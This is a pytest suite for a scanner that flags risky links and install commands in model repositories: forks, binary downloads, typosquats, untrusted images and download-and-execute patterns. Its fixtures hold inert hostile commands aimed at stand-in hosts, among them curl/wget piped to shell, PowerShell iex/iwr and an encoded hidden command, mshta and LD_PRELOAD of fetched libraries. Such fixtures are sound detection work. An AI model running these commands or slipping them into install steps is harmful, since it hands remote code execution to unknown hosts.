"""LinksScanner: upstream links vs forks, binaries, download-and-execute, images, typosquats.

Cards and scripts are written into tmp_path as text; every command in them is inert text.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.core.findings import Finding, Severity
from app.core.formats.blobs import BytesBlob
from app.core.limits import Limits
from app.core.manifest import ManifestFile
from app.core.pipeline import VetOptions, vet
from app.core.ports import SourceError
from app.core.report import Report
from app.core.scanners import links_scanner
from app.core.scanners.links_scanner import LinksScanner
from app.core.scanners.text_rules import shell_rules as sh
from app.core.scanners.text_rules.text_lines import Line, read_text, read_whole
from app.core.scanners.text_rules.upstreams import load_upstreams
from app.sources.local import LocalSource

NVIDIA_CARD = """---
license: mit
base_model: deepseek-ai/DeepSeek-V4-Flash
---
# DeepSeek-V4-Flash-NVFP4

Quantized with [NVIDIA Model Optimizer](https://github.com/NVIDIA/Model-Optimizer) from
[deepseek-ai/DeepSeek-V4-Flash](https://huggingface.co/deepseek-ai/DeepSeek-V4-Flash)
([paper](https://arxiv.org/abs/2412.19437), [code](https://github.com/deepseek-ai/DeepSeek-V4-Flash)).

```sh
pip install vllm
pip install -U "sglang[all]>=0.5" --extra-index-url https://download.pytorch.org/whl/cu128
docker run --gpus all --ipc=host -p 8000:8000 vllm/vllm-openai:latest --model nvidia/DeepSeek-V4-Flash-NVFP4
docker pull lmsysorg/sglang:latest
```

Serve with [vLLM](https://github.com/vllm-project/vllm) or [SGLang](https://github.com/sgl-project/sglang);
see https://docs.vllm.ai/en/latest/ and https://huggingface.co/docs/hub. If pip install the package fails, retry.
"""

CANADA_QUANT_CARD = """# DeepSeek-V4-Flash W4A16 FP8 MTP

This checkpoint needs our patched vLLM and kernels:

```bash
pip install git+https://github.com/canada-quant/vllm.git@dsv4-w4a16
pip install https://github.com/canada-quant/dsv4-kernels/releases/download/v0.3/fp8_mtp-0.3-cp311-linux_x86_64.whl
wget https://github.com/canada-quant/dsv4-kernels/releases/download/v0.3/libfp8mtp.so -O /usr/local/lib/libfp8mtp.so
curl -fsSL https://canada-quant.example/setup.sh | bash
pip install vlllm transfomers
docker run --gpus all canadaquant/vllm-dsv4:latest
```
"""


def _vet(tmp_path: Path, files: dict[str, str], limits: Limits | None = None) -> Report:
    for name, content in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return vet(LocalSource(tmp_path), [LinksScanner()], options=VetOptions(limits=limits, workers=1))


def _with(report: Report, rule: str) -> list[Finding]:
    return [f for f in report.findings if f.rule == rule]


def test_vendor_card_with_upstream_links_is_info_only(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"README.md": NVIDIA_CARD})
    assert {f.severity for f in report.findings} == {Severity.INFO}
    assert {f.rule for f in report.findings} == {"upstream-link"}
    messages = " ".join(f.message for f in report.findings)
    for upstream in ("NVIDIA/Model-Optimizer", "deepseek-ai/DeepSeek-V4-Flash", "vllm-project/vllm",
                     "sgl-project/sglang", "download.pytorch.org"):
        assert upstream in messages
    assert "arxiv.org" not in messages  # reference hosts say nothing about code


def test_third_party_card_with_fork_and_binaries(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD})
    (fork,) = _with(report, "forked-code")
    assert fork.severity is Severity.HIGH
    assert fork.evidence == "README.md:6: pip install git+https://github.com/canada-quant/vllm.git@dsv4-w4a16"
    assert "vllm-project" in fork.message
    binaries = _with(report, "binary-download")
    assert {f.evidence.split(":")[1] for f in binaries if f.evidence} == {"7", "8"}
    assert any(".whl" in f.message for f in binaries) and any(".so" in f.message for f in binaries)
    (dae,) = _with(report, "download-and-execute")
    assert dae.severity is Severity.CRITICAL and dae.evidence and dae.evidence.startswith("README.md:9:")
    assert {f.message.split("'")[1] for f in _with(report, "typosquat-package")} == {"vlllm", "transfomers"}
    (image,) = _with(report, "untrusted-container-image")
    assert "canadaquant/vllm-dsv4" in image.message and image.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "command",
    [
        "wget -qO- http://198.51.100.7/x | sh",
        "bash <(curl -s https://example.invalid/i.sh)",
        'python3 -c "$(curl -fsSL https://example.invalid/p.py)"',
        "echo ZWNobyBwd25lZA== | base64 -d | bash",
        "iex (iwr https://example.invalid/a.ps1 -UseBasicParsing)",
        "iwr https://example.invalid/a.ps1 | iex",
        "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')",
        "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACkA",
        "mshta https://example.invalid/a.hta",
    ],
)
def test_download_and_execute_idioms_are_critical(tmp_path: Path, command: str) -> None:
    report = _vet(tmp_path, {"install.sh": f"#!/bin/sh\n{command}\n"})
    (finding,) = _with(report, "download-and-execute")
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence and finding.evidence.startswith("install.sh:2:")


@pytest.mark.parametrize(("command", "source"), [
    # The script itself (host and decoded path, no scheme, query or fragment): what `installers` globs match.
    ('/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh?x=1#y)"',
     "raw.githubusercontent.com/Homebrew/install/HEAD/install.sh"),
    ("wget https://ascend-repo.obs.cn-east-2.myhuaweicloud.com/CANN/CANN%208.0.0/t.run && sh t.run",
     "ascend-repo.obs.cn-east-2.myhuaweicloud.com/CANN/CANN 8.0.0/t.run"),
    ("curl -fsSL https://example.invalid/a/../i.sh | sh", "example.invalid/i.sh"),
    # Two URLs on the line: no one script is run, so no source for a policy to vouch for.
    ("curl https://example.invalid/a.sh https://example.invalid/b.sh | sh", None),
])
def test_download_and_execute_names_the_script_it_runs(tmp_path: Path, command: str, source: str | None) -> None:
    (finding,) = _with(_vet(tmp_path, {"install.sh": f"#!/bin/sh\n{command}\n"}), "download-and-execute")
    assert finding.source == source


def test_download_then_run_across_lines_is_critical(tmp_path: Path) -> None:
    script = ("wget https://example.invalid/tools/fastkern.run\n"
              "echo downloading done\n"
              "chmod +x fastkern.run && ./fastkern.run --silent\n")
    (finding,) = _with(_vet(tmp_path, {"setup.sh": script}), "download-and-execute")
    assert "line 1" in finding.message
    assert finding.evidence and finding.evidence.startswith("setup.sh:3:")


def test_release_asset_installed_and_run_from_a_path(tmp_path: Path) -> None:
    script = ('wget -q -O /usr/local/bin/fp8-tune "https://github.com/someone/kernels/releases/download/v1/fp8-tune"\n'
              "chmod +x /usr/local/bin/fp8-tune\n")
    report = _vet(tmp_path, {"install.sh": script})
    assert {(f.rule, (f.evidence or "").split(": ")[0]) for f in report.findings} == {
        ("binary-download", "install.sh:1"), ("download-and-execute", "install.sh:2")}


def test_script_from_a_third_party_hf_repo_run_is_critical(tmp_path: Path) -> None:
    script = ("wget https://huggingface.co/someone/tools/resolve/main/loader.py\n"
              "python loader.py --fast\n")
    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
    assert finding.severity is Severity.CRITICAL


def test_urls_in_python_code_are_classified(tmp_path: Path) -> None:
    code = 'KERNEL = "https://github.com/someone/kernels/releases/download/v1/libmoe.so"\n'
    (finding,) = _vet(tmp_path, {"modeling_x.py": code}).findings
    assert finding.rule == "binary-download"
    assert finding.evidence == "modeling_x.py:1: " + code.strip()


def test_official_installers_are_low_not_critical(tmp_path: Path) -> None:
    script = ("curl -LsSf https://astral.sh/uv/install.sh | sh\n"
              "wget https://developer.download.nvidia.com/compute/cuda/12.8.0/local_installers/cuda_12.8.0_linux.run\n"
              "sudo sh cuda_12.8.0_linux.run\n")
    report = _vet(tmp_path, {"setup.sh": script})
    assert not _with(report, "download-and-execute")
    assert len(_with(report, "official-install-script")) == 2


def test_requirements_file(tmp_path: Path) -> None:
    requirements = ("torch==2.7.0\n"
                    "flash-attn>=2.7\n"
                    "--extra-index-url https://wheels.example.invalid/simple\n"
                    "vllm @ git+https://github.com/someone/vllm-fork.git@main\n"
                    "transfomers==4.50\n"
                    "requests  # transfomers in a comment is ignored\n")
    report = _vet(tmp_path, {"requirements-gpu.txt": requirements})
    assert {f.rule for f in report.findings} == {"untrusted-package-index", "forked-code", "typosquat-package"}
    (squat,) = _with(report, "typosquat-package")
    assert squat.evidence == "requirements-gpu.txt:5: transfomers==4.50"


def test_unknown_repo_install_is_medium_and_plain_links_are_info(tmp_path: Path) -> None:
    card = ("Install helpers: `pip install git+https://github.com/someone/quant-tools`\n"
            "Blog post: https://blog.example.invalid/post\n")
    report = _vet(tmp_path, {"README.md": card})
    assert {(f.rule, f.severity) for f in report.findings} == {
        ("unknown-code-install", Severity.MEDIUM), ("external-link", Severity.INFO)}


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("https://github.com/Dao-AILab/flash-attention/releases/download/v2.8.3/"
         "flash_attn-2.8.3+cu12torch2.7-cp311-cp311-linux_x86_64.whl", "upstream-link"),
        ("https://github.com/someone/flash-attention/archive/refs/heads/main.zip", "forked-code"),
        ("https://huggingface.co/someone/kernels/resolve/main/libattn.so", "binary-download"),
        ("https://objects.githubusercontent.com/github-production-release-asset/123/tool.exe", "binary-download"),
        ("https://gitee.com/mirror/sglang", "forked-code"),
        ("https://github.com/ggerganov/llama.cpp", "upstream-link"),
        ("https://github.com/someone/sentence-transformers", "external-link"),
    ],
)
def test_url_classification(tmp_path: Path, url: str, rule: str) -> None:
    report = _vet(tmp_path, {"README.md": f"See {url} for details.\n"})
    assert [f.rule for f in report.findings] == [rule]


def test_notebook_code_and_markdown_cells(tmp_path: Path) -> None:
    notebook = {"cells": [
        {"cell_type": "markdown", "source": ["# Demo\n", "Paper: https://arxiv.org/abs/2412.19437\n"]},
        {"cell_type": "code", "source": ["!pip install -q git+https://github.com/x/sglang\n", "import sglang\n"]},
    ], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    report = _vet(tmp_path, {"demo.ipynb": json.dumps(notebook)})
    (fork,) = report.findings
    assert fork.rule == "forked-code"
    assert fork.evidence and fork.evidence.startswith("demo.ipynb:cell2:1:")


def test_malformed_notebook_fails_closed(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"demo.ipynb": '{"cells": "nope"}'})
    assert [f.rule for f in report.findings] == ["scan-error"]
    assert not report.files[0].scanned


def test_dockerfile_images(tmp_path: Path) -> None:
    dockerfile = ("FROM nvcr.io/nvidia/pytorch:25.01-py3 AS build\n"
                  "RUN pip install vllm\n"
                  "FROM build\n"
                  "FROM ubuntu:24.04\n"
                  "FROM --platform=linux/amd64 ghcr.io/someone/vllm-patched:dsv4\n")
    (image,) = _vet(tmp_path, {"Dockerfile": dockerfile}).findings
    assert image.rule == "untrusted-container-image"
    assert image.evidence == "Dockerfile:5: FROM --platform=linux/amd64 ghcr.io/someone/vllm-patched:dsv4"


@pytest.mark.parametrize(
    ("name", "raw", "rule"),
    [  # PowerShell runs UTF-16 scripts with a byte-order mark; Docker skips a UTF-8 one
        ("install.ps1", b"\xff\xfe" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-le"),
         "download-and-execute"),
        ("install.ps1", b"\xfe\xff" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-be"),
         "download-and-execute"),
        ("Dockerfile", "\ufeffFROM ghcr.io/someone/vllm-patched:dsv4\n".encode(), "untrusted-container-image"),
    ],
    ids=["utf-16-le-script", "utf-16-be-script", "utf-8-bom-dockerfile"],
)
def test_text_behind_a_byte_order_mark_is_read_as_its_reader_would(
    tmp_path: Path, name: str, raw: bytes, rule: str
) -> None:
    # Decoded as UTF-8 these were noise (or hid the FROM): no finding at all, and "approve".
    (tmp_path / name).write_bytes(raw)
    report = vet(LocalSource(tmp_path), [LinksScanner()], options=VetOptions(workers=1))
    assert rule in {f.rule for f in report.findings}


class _ShortBlob(BytesBlob):
    """Promises more bytes than it returns, like a source whose file shrank."""

    @property
    def size(self) -> int:
        return 100


def test_a_short_read_is_an_error_not_a_shorter_text() -> None:
    with pytest.raises(SourceError, match="read 10 of the first 100 bytes"):
        read_text(_ShortBlob(b"x" * 10), 1000)
    with pytest.raises(SourceError):
        read_whole(_ShortBlob(b"x" * 10), 1000)


def test_oversized_card_is_checked_on_its_start_and_reported(tmp_path: Path) -> None:
    card = "curl https://example.invalid/x.sh | sh\n" + "filler line\n" * 200
    report = _vet(tmp_path, {"README.md": card}, limits=Limits(max_text_bytes=256))
    assert {f.rule for f in report.findings} >= {"limit-exceeded", "download-and-execute"}


def test_upstream_data_answers() -> None:
    up = load_upstreams()
    assert up.official_image("vllm/vllm-openai:v0.10") and up.official_image("python:3.11-slim")
    assert up.official_image("docker.io/lmsysorg/sglang:latest")
    assert not up.official_image("ghcr.io/someone/vllm") and not up.official_image("vllmm/vllm-openai")
    assert up.typosquat_of("vlllm") == "vllm" and up.typosquat_of("Transfomers") == "transformers"
    for legit in ("torch", "torchvision", "torchx", "flash_attn", "sglang", "datasets", "numpy"):
        assert up.typosquat_of(legit) is None, legit
    assert up.typosquat_of("huggingface-cli") == "huggingface-cli"


@pytest.mark.parametrize(
    ("path", "fmt", "handled"),
    [("README.md", "text", True), ("docs/INSTALL.rst", "text", True), ("Dockerfile.gpu", "text", True),
     ("requirements-dev.txt", "text", True), ("run.ipynb", "text", True), ("setup.py", "text", True),
     ("vocab.txt", "text", False), ("model.safetensors", "safetensors", False), ("README.md", "elf", False),
     ("modeling_x.py", "text", True), ("tokenizer.json", "text", False), ("pip.conf", "text", True),
     (".condarc", "text", True), ("pyproject.toml", "text", True)],
)
def test_handles(path: str, fmt: str, handled: bool) -> None:
    assert LinksScanner().handles(ManifestFile(path, 10, format=fmt)) is handled


def test_rules_list_every_emitted_rule(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD + NVIDIA_CARD + "https://blog.example.invalid\n"})
    assert {f.rule for f in report.findings} <= {r.id for r in LinksScanner.rules}


def test_findings_name_their_source_for_the_policy(tmp_path: Path) -> None:
    card = ("```\n"
            "pip install git+ssh://git@github.com/NVIDIA/vllm.git@nvfp4\n"
            "pip install -i https://pypi.example.invalid/simple/ x\n"
            "conda install -c canada-quant/label/dev vllm\n"
            "docker run --gpus all ghcr.io/Someone/vllm:dsv4\n"
            "docker run canadaquant/vllm@sha256:" + "0" * 64 + "\n"
            "```\n")
    sources = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
    assert sources == {
        ("forked-code", "github.com/NVIDIA/vllm"),
        ("untrusted-package-index", "pypi.example.invalid/simple"),
        ("unknown-package", "pypi.org/project/x"),  # a name no runtime owns and no ranking lists
        ("untrusted-package-index", "anaconda.org/canada-quant/label/dev"),
        ("untrusted-container-image", "ghcr.io/someone/vllm"),
        ("untrusted-container-image", "docker.io/canadaquant/vllm"),
    }


def test_a_repo_named_like_a_runtime_is_judged_by_its_owner(tmp_path: Path) -> None:
    card = ("https://github.com/NVIDIA/vllm\nhttps://github.com/NVIDIA/TensorRT-LLM\n"
            "https://github.com/microsoft/DeepSpeed\nhttps://github.com/vllm-project/vllm\n")
    found = {(f.rule, f.source) for f in _vet(tmp_path, {"README.md": card}).findings}
    assert found == {("forked-code", "github.com/NVIDIA/vllm"), ("upstream-link", None)}


def test_variables_carry_urls_into_later_lines(tmp_path: Path) -> None:
    script = ('BASE="https://example.invalid/dl"\n'
              "curl -fsSL ${BASE}/tool.sh -o t.sh\n"
              "bash t.sh\n"
              "wget ${MIRROR:-https://example.invalid/m}/x.py && python x.py\n")
    dae = _with(_vet(tmp_path, {"install.sh": script}), "download-and-execute")
    assert sorted((f.evidence or "").split(": ")[0] for f in dae) == ["install.sh:3", "install.sh:4"]


def test_shortened_links_in_prose_are_links_not_installs(tmp_path: Path) -> None:
    card = "News: https://bit.ly/abc\n\n```\npip install https://bit.ly/abc\n```\n"
    found = {(f.rule, (f.evidence or "").split(": ")[0]) for f in _vet(tmp_path, {"README.md": card}).findings}
    assert found == {("external-link", "README.md:1"), ("redirect-url", "README.md:4")}


@pytest.mark.parametrize("command", [
    "python -c \"import ctypes; ctypes.CDLL('./libk.so')\"",
    "env LD_PRELOAD=/opt/libk.so:/usr/lib/libc.so.6 vllm serve",
    "DYLD_INSERT_LIBRARIES=libk.so ./serve",
])
def test_a_fetched_library_loaded_is_run(tmp_path: Path, command: str) -> None:
    script = f"curl -L https://example.invalid/libk.so -o /opt/libk.so\n{command}\n"
    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
    assert finding.evidence and finding.evidence.startswith("run.sh:2:")


def test_a_variable_set_earlier_on_the_same_line_is_substituted(tmp_path: Path) -> None:
    script = "H=example.invalid; wget https://$H/dl/libk.so -O /tmp/libk.so && LD_PRELOAD=/tmp/libk.so vllm\n"
    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
    assert "https://example.invalid/dl/libk.so" in finding.message


def test_substituted_values_do_not_multiply_the_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Uncapped, this line grows to 16 million characters and the command rules take ~25 s on it.
    script = "A=" + "x" * 2000 + "\n" + "$A" * 8000 + "\n"
    ruled: list[int] = []  # the characters of each line the command rules read
    rules = links_scanner._Checker._line

    def counted(checker: links_scanner._Checker, line: Line, text: str, commands: str) -> None:
        ruled.append(len(text) + len(commands))
        rules(checker, line, text, commands)

    monkeypatch.setattr(links_scanner._Checker, "_line", counted)
    report = _vet(tmp_path, {"run.sh": script})
    # the line (16,000 characters) plus its substitution budget, read as text and as commands
    assert ruled and max(ruled) <= 2 * (16_000 + sh.MAX_SUBSTITUTED_CHARS), max(ruled)
    assert report.files[0].scanned and not report.findings
    assert len(sh.Variables().resolve("A=" + "x" * 2000 + ";" + "$A" * 8000)) < 40_000


def test_prose_after_an_inline_pip_command_is_no_package(tmp_path: Path) -> None:
    card = "```python\n# fetched by `kernels` (`pip install kernels`), not from a mirror\n```\n"
    rules = {f.rule for f in _vet(tmp_path, {"README.md": card}).findings}
    assert "unknown-package" not in rules
    card = "Install it with `pip install kvshard-serve`.\n"
    assert "unknown-package" in {f.rule for f in _vet(tmp_path / "b", {"README.md": card}).findings}


def test_a_sentence_naming_two_pip_commands_names_their_packages_only(tmp_path: Path) -> None:
    card = "```python\nuse_faiss=True,  # keeps memory low (pip install faiss-gpu or pip install faiss-cpu)\n```\n"
    assert "unknown-package" not in {f.rule for f in _vet(tmp_path, {"README.md": card}).findings}
